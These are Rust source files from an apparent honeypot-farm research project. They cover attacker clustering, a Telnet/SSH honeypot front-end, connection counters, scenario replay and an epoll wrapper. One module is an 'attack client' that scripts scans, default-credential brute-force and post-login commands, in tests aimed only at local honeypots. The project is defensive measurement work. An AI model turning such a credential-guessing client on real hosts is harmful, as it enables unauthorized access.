        let a = assignments_tsv(&feats, &m, &out);
        assert_eq!(a.lines().count(), 1, "header only:\n{a}");
        let t = summary_tsv(&out);
        assert!(t.contains("# clients\t0"));
        assert!(t.contains("# k\t0"));
        let txt = summary_text(&feats, &out);
        assert!(txt.contains("clients 0"));
    }

    #[test]
    fn tsv_shapes_are_stable() {
        let acc = ClientAcc {
            sessions: 4,
            first_start: 0,
            last_start: 3000,
            ..ClientAcc::default()
        };
        let feats = ClientFeatures {
            n_honeypots: 221,
            clients: vec![(0x0102_0304, acc.clone()), (0x0a00_0001, acc)],
        };
        let m = feats.matrix();
        let out = crate::kmeans::cluster(&m, &KMeansConfig::default());
        let a = assignments_tsv(&feats, &m, &out);
        assert!(a.starts_with("client\tcluster\tsessions\tsessions_log\t"));
        assert!(a.contains("1.2.3.4\t0\t4\t"));
        assert!(a.contains("10.0.0.1\t0\t4\t"));
        let t = summary_tsv(&out);
        assert!(t.contains("# sweep\t"));
        assert!(t.lines().last().unwrap().starts_with("0\t2\t1.000000\t"));
    }
}
