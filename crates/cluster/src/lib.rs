//! Attacker clustering over the honeyfarm dataset.
//!
//! The paper's pipeline (Sections 6–7) characterizes *sessions*; this crate
//! answers the per-client question — who attacks, and how campaigns reuse
//! credentials, commands, and infrastructure across the farm — with the
//! methodology of the medium-interaction-honeypot clustering literature
//! (see PAPERS.md): per-client behavioural feature vectors and a seeded
//! k-means.
//!
//! The pipeline is three pure stages, each deterministic on its own:
//!
//! 1. [`extract`] / [`extract_threaded`] / [`FeatureFold`] — one pass over
//!    the session store accumulating *integers only* per client (counts,
//!    bitsets, id-sets). Integer merges are exact, so sharding by
//!    `day_aligned_ranges` or streaming chunk-at-a-time cannot change the
//!    result (DESIGN.md §15 has the full argument).
//! 2. [`ClientFeatures::matrix`] — fixed, documented normalization into
//!    `[0, 1]` floats, computed from final integer state only.
//! 3. [`cluster`] — serial seeded k-means++ with a fixed silhouette sweep
//!    over `k = 2..=8`; every tie-break is documented and keyed by client
//!    IP or column order.
//!
//! `hfarm cluster` drives all three from a live sim, a snapshot, or a
//! bounded-RSS streaming read; `hf-testkit` ships `diff_features` /
//! `diff_clusters` field-level oracles, and `tests/cluster_goldens.rs`
//! pins the TSV output byte-for-byte.

#![warn(missing_docs)]

pub mod features;
pub mod kmeans;
pub mod report;

pub use features::{
    extract, extract_threaded, unit01, ClientAcc, ClientFeatures, FeatureFold, FeatureMatrix,
    HeadMap, FEATURE_NAMES, N_FEATURES,
};
pub use kmeans::{cluster, silhouette, ClusterOutput, KMeansConfig};
pub use report::{assignments_tsv, summary_text, summary_tsv};

use std::io::Read;

use hf_farm::{FarmPlan, SnapshotError, SnapshotReader};

/// A complete clustering run: the integer accumulators, the normalized
/// matrix, and the k-means output. Bundles what the CLI, the claims table,
/// and the reports all need together.
pub struct ClusterRun {
    /// Per-client integer accumulators.
    pub features: ClientFeatures,
    /// Normalized feature matrix.
    pub matrix: FeatureMatrix,
    /// Canonically-labelled clustering.
    pub output: ClusterOutput,
}

impl ClusterRun {
    /// Extract, normalize, and cluster a materialized dataset.
    pub fn over(dataset: &hf_farm::Dataset, threads: usize, cfg: &KMeansConfig) -> ClusterRun {
        let features = extract_threaded(dataset, threads);
        ClusterRun::finish(features, cfg)
    }

    /// Normalize and cluster already-extracted features.
    pub fn finish(features: ClientFeatures, cfg: &KMeansConfig) -> ClusterRun {
        let matrix = features.matrix();
        let output = cluster(&matrix, cfg);
        ClusterRun {
            features,
            matrix,
            output,
        }
    }
}

/// Streaming feature extraction: read an hfstore snapshot chunk-at-a-time
/// and fold every row without ever materializing the row section. Rows
/// must be day-ordered (snapshot writers emit them that way); a violation
/// surfaces as a `Corrupt` error, mirroring the aggregates stream fold.
/// Returns the deployment plan alongside the finished features.
pub fn features_from_snapshot_stream<R: Read + Send>(
    r: R,
) -> Result<(FarmPlan, ClientFeatures), SnapshotError> {
    let _span = hf_obs::span!("cluster.stream_extract");
    let reader = SnapshotReader::open(r)?;
    let mut heads = HeadMap::new();
    let mut fold = FeatureFold::new();
    let mut last_day = 0u32;
    let (_meta, plan, _sessions, _tags) = reader.fold_chunks(|store, plan, rows| {
        heads.sync(&store.commands);
        for row in rows {
            let v = store.view_row(row);
            let day = v.day();
            if day < last_day {
                return Err(SnapshotError::Corrupt {
                    section: "rows",
                    detail: format!(
                        "streaming feature extraction requires day-ordered rows; \
                         a day-{day} row follows day {last_day}"
                    ),
                });
            }
            last_day = day;
            fold.ingest(plan, &heads, &v);
        }
        hf_obs::counter!("cluster.rows_folded", rows.len() as u64);
        Ok(())
    })?;
    hf_obs::counter!("cluster.clients", fold.len() as u64);
    let n_honeypots = plan.len();
    Ok((plan, fold.finish(n_honeypots)))
}
