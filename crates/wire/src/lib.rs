//! Live network front-end for the honeypot.
//!
//! The simulator exercises the honeypot state machine in-process; this crate
//! exposes the same state machine on real TCP sockets so the honeypot is
//! usable as an actual network service (and so the reproduction demonstrably
//! contains a working honeypot, not just a model of one):
//!
//! - [`telnet_server`]: a Telnet (RFC 854) listener — IAC negotiation, login
//!   dialogue, emulated shell,
//! - [`ssh_server`]: an SSH-flavoured listener — real RFC 4253 §4.2
//!   identification-string exchange, then a *documented plaintext* auth and
//!   exec framing in place of the encrypted transport (see DESIGN.md:
//!   the paper's analyses never look inside the crypto),
//! - [`client`]: a scriptable attack client used by tests and examples,
//! - [`farm`]: a loopback mini-farm that runs several honeypots and collects
//!   their session records centrally.
//!
//! The session semantics (auth policy, 3-attempt cap, pre/post-auth
//! timeouts, event records) are identical to the simulated path because both
//! drive [`hf_honeypot::SessionDriver`].

pub mod client;
pub mod farm;
pub mod ssh_server;
pub mod telnet_server;

pub use client::{AttackClient, AttackScript};
pub use farm::{LiveFarm, LiveFarmConfig};
pub use ssh_server::SshHoneypotServer;
pub use telnet_server::TelnetHoneypotServer;
