//! Live network front-end for the honeyfarm.
//!
//! The simulator exercises the honeypot state machine in-process; this crate
//! exposes the *same* state machine on real TCP sockets, so the reproduction
//! demonstrably contains a working honeypot farm — not just a model of one.
//! A single-threaded epoll reactor (no async runtime; the offline build
//! vendors nothing) multiplexes every virtual node's SSH and Telnet
//! listeners, drives each accepted connection through
//! [`hf_honeypot::SessionDriver`] / the emulated shell / `hf-proto`
//! negotiation — the exact code path `Scenario::replay` uses — and streams
//! completed [`hf_farm::SessionRecord`]s into a [`hf_farm::Collector`]
//! through a bounded channel.
//!
//! Module map:
//!
//! - [`epoll`]: minimal epoll(7) wrapper (raw glibc symbols, no libc crate),
//! - [`conn`]: per-connection session state machine — telnet/SSH dialogue,
//!   the `@hfs` in-band control channel, fault policies,
//! - [`farm`]: the [`LiveFarm`] — listener set, reactor thread, collector
//!   thread, graceful drain-on-shutdown,
//! - [`stats`]: [`FarmStats`] accounting (`accepted == ingested + rejected`),
//! - [`script`]: `.hfs` [`Scenario`] → client wire bytes,
//! - [`client`]: blocking one-shot session client for tests and tools,
//! - [`loadgen`]: epoll-driven load generator (rolling and hold-all modes).
//!
//! Every virtual node keeps its distinct address on loopback via
//! [`mirror_addr`]: the deployment plan's `198.18.x.y` becomes `127.18.x.y`,
//! which Linux binds without configuration.
//!
//! [`Scenario`]: hf_testkit::Scenario

pub mod client;
pub mod conn;
pub mod epoll;
pub mod farm;
pub mod loadgen;
pub mod script;
pub mod stats;

pub use client::run_script;
pub use conn::{ConnParams, SessionConn, Timing, MAX_LINE, NEGOTIATION_BUDGET};
pub use farm::{mirror_addr, FarmConfig, FarmOutput, LiveFarm, NodeAddrs};
pub use loadgen::{LoadgenConfig, LoadgenReport};
pub use script::{wire_script, wire_script_as};
pub use stats::FarmStats;
