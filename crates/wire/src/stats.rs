//! Per-farm wire counters.
//!
//! [`FarmStats`] is the farm's own source of truth for the ingest-accounting
//! invariant (`accepted == ingested + rejected`): plain atomics shared by the
//! reactor, the collector thread, and whoever owns the [`crate::LiveFarm`]
//! handle. Every increment is mirrored into the global `hf-obs` registry
//! under a `wire.*` name, so a metrics-enabled run exports the same numbers
//! in its manifest — but tests assert against [`FarmStats`], which is scoped
//! to one farm instead of one process.

use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::Arc;

#[derive(Default)]
struct Inner {
    accepted: AtomicU64,
    rejected_ip_cap: AtomicU64,
    ingested: AtomicU64,
    wall_timeouts: AtomicU64,
    oversized_lines: AtomicU64,
    telnet_storms: AtomicU64,
    read_errors: AtomicU64,
    auths_ok: AtomicU64,
    auths_fail: AtomicU64,
    commands: AtomicU64,
    open_now: AtomicI64,
    open_peak: AtomicI64,
}

/// Shared live counters of one farm. Cheap to clone (an `Arc`).
#[derive(Clone, Default)]
pub struct FarmStats {
    inner: Arc<Inner>,
}

macro_rules! getter {
    ($($(#[$doc:meta])* $name:ident),* $(,)?) => {
        $($(#[$doc])*
        pub fn $name(&self) -> u64 {
            self.inner.$name.load(Ordering::Relaxed)
        })*
    };
}

impl FarmStats {
    /// Fresh all-zero counters.
    pub fn new() -> Self {
        Self::default()
    }

    getter! {
        /// TCP connections accepted (including ones later rejected by the
        /// per-IP cap).
        accepted,
        /// Connections closed at accept time by the per-IP cap; these
        /// produce no session record.
        rejected_ip_cap,
        /// Session records ingested by the collector thread.
        ingested,
        /// Sessions ended by the wall-clock read deadline.
        wall_timeouts,
        /// Sessions ended for exceeding the line-length bound.
        oversized_lines,
        /// Telnet sessions ended for exceeding the negotiation budget.
        telnet_storms,
        /// Socket read errors treated as client closes.
        read_errors,
        /// Accepted credential offers.
        auths_ok,
        /// Rejected credential offers.
        auths_fail,
        /// Shell command lines executed.
        commands,
    }

    /// Currently open (accepted, not yet closed) connections.
    pub fn open_now(&self) -> i64 {
        self.inner.open_now.load(Ordering::Relaxed)
    }

    /// High-water mark of concurrently open connections — the farm-side
    /// measure of sustained concurrency under load.
    pub fn open_peak(&self) -> i64 {
        self.inner.open_peak.load(Ordering::Relaxed)
    }

    /// Does `accepted == ingested + rejected` hold right now? Only
    /// meaningful after a farm has fully shut down (mid-run, accepted
    /// connections are still in flight).
    pub fn accounting_balanced(&self) -> bool {
        self.accepted() == self.ingested() + self.rejected_ip_cap()
    }

    pub(crate) fn on_accept(&self) {
        self.inner.accepted.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.accepted", 1);
    }

    pub(crate) fn on_reject_ip_cap(&self) {
        self.inner.rejected_ip_cap.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.rejected_ip_cap", 1);
    }

    pub(crate) fn on_ingest(&self) {
        self.inner.ingested.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.ingested", 1);
    }

    pub(crate) fn on_wall_timeout(&self) {
        self.inner.wall_timeouts.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.wall_timeouts", 1);
    }

    pub(crate) fn on_oversized(&self) {
        self.inner.oversized_lines.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.oversized_lines", 1);
    }

    pub(crate) fn on_telnet_storm(&self) {
        self.inner.telnet_storms.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.telnet_storms", 1);
    }

    pub(crate) fn on_read_error(&self) {
        self.inner.read_errors.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.read_errors", 1);
    }

    pub(crate) fn on_auth(&self, accepted: bool) {
        if accepted {
            self.inner.auths_ok.fetch_add(1, Ordering::Relaxed);
            hf_obs::counter!("wire.auth_ok", 1);
        } else {
            self.inner.auths_fail.fetch_add(1, Ordering::Relaxed);
            hf_obs::counter!("wire.auth_fail", 1);
        }
    }

    pub(crate) fn on_command(&self) {
        self.inner.commands.fetch_add(1, Ordering::Relaxed);
        hf_obs::counter!("wire.commands", 1);
    }

    pub(crate) fn conn_opened(&self) {
        let now = self.inner.open_now.fetch_add(1, Ordering::Relaxed) + 1;
        self.inner.open_peak.fetch_max(now, Ordering::Relaxed);
        hf_obs::gauge!("wire.open_peak", now);
    }

    pub(crate) fn conn_closed(&self) {
        self.inner.open_now.fetch_sub(1, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counters_accumulate_and_balance() {
        let s = FarmStats::new();
        for _ in 0..5 {
            s.on_accept();
        }
        s.on_reject_ip_cap();
        for _ in 0..4 {
            s.on_ingest();
        }
        assert_eq!(s.accepted(), 5);
        assert_eq!(s.rejected_ip_cap(), 1);
        assert_eq!(s.ingested(), 4);
        assert!(s.accounting_balanced());
    }

    #[test]
    fn open_peak_is_high_water() {
        let s = FarmStats::new();
        s.conn_opened();
        s.conn_opened();
        s.conn_closed();
        s.conn_opened();
        assert_eq!(s.open_now(), 2);
        assert_eq!(s.open_peak(), 2);
    }

    #[test]
    fn clones_share_state() {
        let a = FarmStats::new();
        let b = a.clone();
        b.on_accept();
        assert_eq!(a.accepted(), 1);
    }
}
