//! Scenario → wire-bytes rendering.
//!
//! [`wire_script`] turns a parsed `.hfs` [`Scenario`] into the exact byte
//! stream a client sends over a live socket so that a [`Timing::Virtual`]
//! farm reproduces `Scenario::replay()`'s session record bit for bit. The
//! scenario's header (start instant, client address, fetcher) and its timing
//! steps (`think`, `idle`, `transfer`) travel in-band as `@hfs` control
//! lines (see [`crate::conn`] module docs); login and command steps become
//! the protocol's own dialogue.
//!
//! [`Timing::Virtual`]: crate::Timing

use hf_geo::Ip4;
use hf_proto::Protocol;
use hf_testkit::scenario::Step;
use hf_testkit::Scenario;

/// Render the scenario as client bytes, preserving its own client address.
pub fn wire_script(sc: &Scenario) -> String {
    wire_script_as(sc, sc.client, sc.port)
}

/// Render the scenario as client bytes, overriding the recorded client
/// address — the load generator's tool for giving every loopback connection
/// a distinct attacker identity.
pub fn wire_script_as(sc: &Scenario, client: Ip4, port: u16) -> String {
    let term = match sc.protocol {
        Protocol::Ssh => "\n",
        Protocol::Telnet => "\r\n",
    };
    let mut s = String::new();
    s.push_str(&format!(
        "@hfs start {} {}{term}",
        sc.start.day(),
        sc.start.secs_of_day()
    ));
    s.push_str(&format!("@hfs client {client} {port}{term}"));
    let fetcher = match sc.fetcher {
        hf_testkit::scenario::FetcherKind::Synthetic => "synthetic",
        hf_testkit::scenario::FetcherKind::Null => "null",
    };
    s.push_str(&format!("@hfs fetcher {fetcher}{term}"));
    for step in &sc.steps {
        match step {
            Step::Banner(b) => {
                // The ident line only exists on the SSH wire; a telnet
                // replay ignores `client_banner`, so skipping it here keeps
                // the records identical without corrupting the login
                // dialogue.
                if sc.protocol == Protocol::Ssh {
                    s.push_str(b);
                    s.push_str("\r\n");
                }
            }
            Step::Think(t) => s.push_str(&format!("@hfs think {t}{term}")),
            Step::Login { user, pass } => match sc.protocol {
                Protocol::Ssh => s.push_str(&format!("USER {user}\nPASS {pass}\n")),
                Protocol::Telnet => s.push_str(&format!("{user}\r\n{pass}\r\n")),
            },
            Step::Cmd(line) => {
                s.push_str(line);
                s.push_str(term);
            }
            Step::Idle(n) => s.push_str(&format!("@hfs idle {n}{term}")),
            Step::Transfer(n) => s.push_str(&format!("@hfs transfer {n}{term}")),
            // The wire expression of a client close is EOF: stop scripting
            // and let the socket shutdown do the rest. Later steps would be
            // no-ops against a finished driver in replay too.
            Step::Close => break,
        }
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_carries_header_and_steps_in_order() {
        let sc = Scenario::parse(
            "name s\n\
             protocol ssh\n\
             fetcher null\n\
             client 10.9.8.7\n\
             port 41234\n\
             start 3 500\n\
             banner SSH-2.0-Go\n\
             think 2\n\
             login root 1234\n\
             cmd uname -a\n\
             idle 30\n\
             transfer 60\n\
             close\n\
             cmd ignored-after-close\n",
        )
        .unwrap();
        let script = wire_script(&sc);
        let expected = "@hfs start 3 500\n\
                        @hfs client 10.9.8.7 41234\n\
                        @hfs fetcher null\n\
                        SSH-2.0-Go\r\n\
                        @hfs think 2\n\
                        USER root\nPASS 1234\n\
                        uname -a\n\
                        @hfs idle 30\n\
                        @hfs transfer 60\n";
        assert_eq!(script, expected);
    }

    #[test]
    fn telnet_script_uses_crlf_and_bare_credentials() {
        let sc = Scenario::parse(
            "name t\n\
             protocol telnet\n\
             login root hunter2\n\
             cmd uname -a\n\
             close\n",
        )
        .unwrap();
        let script = wire_script(&sc);
        assert!(script.contains("root\r\nhunter2\r\n"));
        assert!(script.contains("uname -a\r\n"));
        assert!(!script.contains("USER "));
    }

    #[test]
    fn client_override_replaces_header_address() {
        let sc = Scenario::parse("name o\nclose\n").unwrap();
        let script = wire_script_as(&sc, Ip4::new(10, 0, 0, 42), 55555);
        assert!(script.contains("@hfs client 10.0.0.42 55555\n"));
    }
}
