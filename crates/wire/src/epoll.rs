//! Minimal epoll(7) wrapper — the readiness engine of the live farm.
//!
//! The offline build cannot vendor mio or Tokio, so this module talks to
//! epoll directly through the libc symbols the standard library already
//! links (`epoll_create1` / `epoll_ctl` / `epoll_wait`). The surface is
//! deliberately tiny: level-triggered registration of raw fds with a `u64`
//! token, and a timeout-bounded wait. Everything else (slabs, deadlines,
//! shutdown flags) lives in the reactor that owns the instance.
//!
//! Linux-only by design; the rest of the workspace stays portable.

use std::io;
use std::os::fd::RawFd;

/// Readable readiness (EPOLLIN).
pub const IN: u32 = 0x001;
/// Writable readiness (EPOLLOUT).
pub const OUT: u32 = 0x004;
/// Error condition (always reported; no need to register).
pub const ERR: u32 = 0x008;
/// Hang-up (always reported; no need to register).
pub const HUP: u32 = 0x010;
/// Peer shut down the writing half (EPOLLRDHUP).
pub const RDHUP: u32 = 0x2000;

const EPOLL_CLOEXEC: i32 = 0o2000000;
const EPOLL_CTL_ADD: i32 = 1;
const EPOLL_CTL_DEL: i32 = 2;
const EPOLL_CTL_MOD: i32 = 3;

/// `struct epoll_event`. Packed on x86-64 (the kernel ABI), naturally
/// aligned elsewhere — the same split the libc crate makes.
#[cfg_attr(target_arch = "x86_64", repr(C, packed))]
#[cfg_attr(not(target_arch = "x86_64"), repr(C))]
#[derive(Clone, Copy)]
pub struct Event {
    events: u32,
    data: u64,
}

impl Event {
    /// An empty event, for buffer initialisation.
    pub const fn zeroed() -> Event {
        Event { events: 0, data: 0 }
    }

    /// Ready-state bits (a mask of [`IN`], [`OUT`], [`ERR`], [`HUP`],
    /// [`RDHUP`]).
    pub fn readiness(&self) -> u32 {
        // Reading a packed field by value is fine; borrowing it is not.
        self.events
    }

    /// The token the fd was registered with.
    pub fn token(&self) -> u64 {
        self.data
    }
}

extern "C" {
    fn epoll_create1(flags: i32) -> i32;
    fn epoll_ctl(epfd: i32, op: i32, fd: i32, event: *mut Event) -> i32;
    fn epoll_wait(epfd: i32, events: *mut Event, maxevents: i32, timeout: i32) -> i32;
    fn close(fd: i32) -> i32;
}

/// One epoll instance. Closes its fd on drop.
pub struct Epoll {
    fd: RawFd,
}

impl Epoll {
    /// Create a new instance (CLOEXEC).
    pub fn new() -> io::Result<Epoll> {
        let fd = unsafe { epoll_create1(EPOLL_CLOEXEC) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(Epoll { fd })
    }

    fn ctl(&self, op: i32, fd: RawFd, interest: u32, token: u64) -> io::Result<()> {
        let mut ev = Event {
            events: interest,
            data: token,
        };
        let rc = unsafe { epoll_ctl(self.fd, op, fd, &mut ev) };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    /// Register `fd` with the given interest mask and token.
    pub fn add(&self, fd: RawFd, interest: u32, token: u64) -> io::Result<()> {
        self.ctl(EPOLL_CTL_ADD, fd, interest, token)
    }

    /// Change the interest mask of a registered fd.
    pub fn modify(&self, fd: RawFd, interest: u32, token: u64) -> io::Result<()> {
        self.ctl(EPOLL_CTL_MOD, fd, interest, token)
    }

    /// Deregister an fd.
    pub fn del(&self, fd: RawFd) -> io::Result<()> {
        let mut ev = Event { events: 0, data: 0 };
        let rc = unsafe { epoll_ctl(self.fd, EPOLL_CTL_DEL, fd, &mut ev) };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    /// Wait up to `timeout_ms` for readiness; fills `events` and returns the
    /// number of ready entries. EINTR is mapped to zero events.
    pub fn wait(&self, events: &mut [Event], timeout_ms: i32) -> io::Result<usize> {
        let n = unsafe {
            epoll_wait(
                self.fd,
                events.as_mut_ptr(),
                events.len() as i32,
                timeout_ms,
            )
        };
        if n < 0 {
            let err = io::Error::last_os_error();
            if err.kind() == io::ErrorKind::Interrupted {
                return Ok(0);
            }
            return Err(err);
        }
        Ok(n as usize)
    }
}

impl Drop for Epoll {
    fn drop(&mut self) {
        unsafe {
            let _ = close(self.fd);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use std::net::{TcpListener, TcpStream};
    use std::os::fd::AsRawFd;

    #[test]
    fn readiness_roundtrip_over_loopback() {
        let ep = Epoll::new().unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        ep.add(listener.as_raw_fd(), IN, 7).unwrap();

        let mut events = [Event { events: 0, data: 0 }; 8];
        // Nothing pending yet.
        assert_eq!(ep.wait(&mut events, 0).unwrap(), 0);

        let mut client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let n = ep.wait(&mut events, 2000).unwrap();
        assert_eq!(n, 1);
        assert_eq!(events[0].token(), 7);
        assert!(events[0].readiness() & IN != 0);

        let (accepted, _) = listener.accept().unwrap();
        accepted.set_nonblocking(true).unwrap();
        ep.add(accepted.as_raw_fd(), IN | RDHUP, 9).unwrap();
        client.write_all(b"x").unwrap();
        let n = ep.wait(&mut events, 2000).unwrap();
        assert!(n >= 1);
        assert!((0..n).any(|i| events[i].token() == 9));

        ep.del(accepted.as_raw_fd()).unwrap();
        ep.del(listener.as_raw_fd()).unwrap();
    }

    #[test]
    fn modify_switches_interest() {
        let ep = Epoll::new().unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        client.set_nonblocking(true).unwrap();
        ep.add(client.as_raw_fd(), IN, 1).unwrap();
        let mut events = [Event { events: 0, data: 0 }; 4];
        assert_eq!(ep.wait(&mut events, 0).unwrap(), 0, "no input yet");
        // A fresh socket is immediately writable.
        ep.modify(client.as_raw_fd(), OUT, 2).unwrap();
        let n = ep.wait(&mut events, 2000).unwrap();
        assert_eq!(n, 1);
        assert_eq!(events[0].token(), 2);
        assert!(events[0].readiness() & OUT != 0);
    }
}
