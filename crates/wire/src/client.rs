//! Scriptable attack client for tests and examples.
//!
//! Drives either listener with a canned behaviour — connect-and-leave
//! (scan), failed logins (scout), or login + commands (intrusion) — and
//! returns the transcript it saw.

use std::net::SocketAddr;
use std::time::Duration;

use hf_proto::Protocol;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What the client does after connecting.
#[derive(Debug, Clone)]
pub struct AttackScript {
    /// Which protocol dialect to speak.
    pub protocol: Protocol,
    /// Client banner to present (SSH only).
    pub banner: String,
    /// Credential attempts in order (username, password).
    pub logins: Vec<(String, String)>,
    /// Commands to run after a successful login.
    pub commands: Vec<String>,
}

impl AttackScript {
    /// A port scan: connect, read the banner, leave.
    pub fn scan(protocol: Protocol) -> Self {
        AttackScript {
            protocol,
            banner: "SSH-2.0-Zgrab".to_string(),
            logins: vec![],
            commands: vec![],
        }
    }

    /// A brute-force attempt with the given credential list.
    pub fn scout(protocol: Protocol, attempts: &[(&str, &str)]) -> Self {
        AttackScript {
            protocol,
            banner: "SSH-2.0-libssh2_1.10.0".to_string(),
            logins: attempts
                .iter()
                .map(|(u, p)| (u.to_string(), p.to_string()))
                .collect(),
            commands: vec![],
        }
    }

    /// An intrusion: log in as root and run commands.
    pub fn intrusion(protocol: Protocol, password: &str, commands: &[&str]) -> Self {
        AttackScript {
            protocol,
            banner: "SSH-2.0-Go".to_string(),
            logins: vec![("root".to_string(), password.to_string())],
            commands: commands.iter().map(|c| c.to_string()).collect(),
        }
    }
}

/// The client runner.
pub struct AttackClient;

impl AttackClient {
    /// Run a script against a listener; returns everything the client read.
    pub async fn run(addr: SocketAddr, script: &AttackScript) -> std::io::Result<String> {
        match script.protocol {
            Protocol::Ssh => Self::run_ssh(addr, script).await,
            Protocol::Telnet => Self::run_telnet(addr, script).await,
        }
    }

    async fn read_chunk(stream: &mut TcpStream, transcript: &mut String) -> std::io::Result<usize> {
        let mut buf = [0u8; 2048];
        match tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf)).await {
            Ok(Ok(n)) => {
                transcript.push_str(&String::from_utf8_lossy(&buf[..n]));
                Ok(n)
            }
            Ok(Err(e)) => Err(e),
            Err(_) => Ok(0),
        }
    }

    async fn run_ssh(addr: SocketAddr, script: &AttackScript) -> std::io::Result<String> {
        let mut s = TcpStream::connect(addr).await?;
        let mut transcript = String::new();
        Self::read_chunk(&mut s, &mut transcript).await?; // server ident
        if script.logins.is_empty() && script.commands.is_empty() {
            return Ok(transcript); // pure scan
        }
        s.write_all(format!("{}\r\n", script.banner).as_bytes()).await?;
        let mut authed = false;
        for (user, pass) in &script.logins {
            s.write_all(format!("USER {user}\nPASS {pass}\n").as_bytes()).await?;
            Self::read_chunk(&mut s, &mut transcript).await?;
            if transcript.contains("AUTH-OK") {
                authed = true;
                break;
            }
            if transcript.contains("AUTH-FAIL-CLOSE") {
                return Ok(transcript);
            }
        }
        if authed {
            for cmd in &script.commands {
                s.write_all(format!("{cmd}\n").as_bytes()).await?;
                // Read until the ## prompt marker (or silence).
                for _ in 0..8 {
                    if Self::read_chunk(&mut s, &mut transcript).await? == 0
                        || transcript.trim_end().ends_with("##")
                    {
                        break;
                    }
                }
            }
            s.write_all(b"EXIT\n").await?;
        }
        Ok(transcript)
    }

    async fn run_telnet(addr: SocketAddr, script: &AttackScript) -> std::io::Result<String> {
        let mut s = TcpStream::connect(addr).await?;
        let mut transcript = String::new();
        Self::read_chunk(&mut s, &mut transcript).await?; // negotiation + login:
        if script.logins.is_empty() && script.commands.is_empty() {
            return Ok(transcript);
        }
        let mut authed = false;
        for (user, pass) in &script.logins {
            s.write_all(format!("{user}\r\n").as_bytes()).await?;
            Self::read_chunk(&mut s, &mut transcript).await?; // Password:
            s.write_all(format!("{pass}\r\n").as_bytes()).await?;
            if Self::read_chunk(&mut s, &mut transcript).await? == 0 {
                return Ok(transcript);
            }
            if transcript.contains("Welcome") {
                authed = true;
                break;
            }
        }
        if authed {
            for cmd in &script.commands {
                s.write_all(format!("{cmd}\r\n").as_bytes()).await?;
                Self::read_chunk(&mut s, &mut transcript).await?;
            }
        }
        Ok(transcript)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ssh_server::SshHoneypotServer;
    use crate::telnet_server::TelnetHoneypotServer;
    use hf_honeypot::HoneypotConfig;
    use hf_shell::SystemProfile;
    use hf_simclock::SimInstant;
    use tokio::sync::mpsc;

    #[tokio::test]
    async fn client_drives_ssh_intrusion() {
        let (tx, mut rx) = mpsc::unbounded_channel();
        let srv = SshHoneypotServer::start(
            "127.0.0.1:0".parse().unwrap(),
            HoneypotConfig::paper(SystemProfile::default()),
            0,
            SimInstant::EPOCH,
            tx,
        )
        .await
        .unwrap();
        let script = AttackScript::intrusion(Protocol::Ssh, "1234", &["uname -a", "free -m"]);
        let transcript = AttackClient::run(srv.local_addr, &script).await.unwrap();
        assert!(transcript.contains("AUTH-OK"));
        assert!(transcript.contains("Linux"));
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.commands.len(), 2);
        srv.shutdown();
    }

    #[tokio::test]
    async fn client_drives_telnet_scout() {
        let (tx, mut rx) = mpsc::unbounded_channel();
        let srv = TelnetHoneypotServer::start(
            "127.0.0.1:0".parse().unwrap(),
            HoneypotConfig::paper(SystemProfile::default()),
            0,
            SimInstant::EPOCH,
            tx,
        )
        .await
        .unwrap();
        let script = AttackScript::scout(
            Protocol::Telnet,
            &[("admin", "admin"), ("root", "root"), ("user", "1234")],
        );
        let transcript = AttackClient::run(srv.local_addr, &script).await.unwrap();
        assert!(transcript.contains("Login incorrect"));
        drop(script);
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.logins.len(), 3);
        assert!(!rec.login_succeeded());
        srv.shutdown();
    }
}
