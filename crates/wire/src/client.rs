//! Blocking wire client for tests and tooling.
//!
//! [`run_script`] plays one scripted session against a live farm listener:
//! connect, write the full client byte stream, half-close the write side,
//! and drain everything the server says until EOF. The half-close (instead
//! of an abrupt drop) matters twice over: it signals the clean client-close
//! the scenario semantics expect, and it avoids the RST that would make the
//! kernel discard server bytes we have not read yet.

use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::Duration;

/// Run one scripted session; returns every byte the server sent.
pub fn run_script(addr: SocketAddr, script: &str, timeout: Duration) -> std::io::Result<Vec<u8>> {
    let mut sock = TcpStream::connect(addr)?;
    sock.set_read_timeout(Some(timeout))?;
    sock.set_write_timeout(Some(timeout))?;
    let _ = sock.set_nodelay(true);
    // The server may close mid-script (auth cap, timeout, fault policy);
    // the broken pipe is an expected session ending, not a client error.
    match sock.write_all(script.as_bytes()) {
        Ok(()) => {}
        Err(e) if e.kind() == ErrorKind::BrokenPipe || e.kind() == ErrorKind::ConnectionReset => {}
        Err(e) => return Err(e),
    }
    let _ = sock.shutdown(Shutdown::Write);
    let mut reply = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match sock.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => reply.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            // A reset after the server finished talking is normal when the
            // session ended server-side; keep what we got.
            Err(e) if e.kind() == ErrorKind::ConnectionReset => break,
            Err(e) => return Err(e),
        }
    }
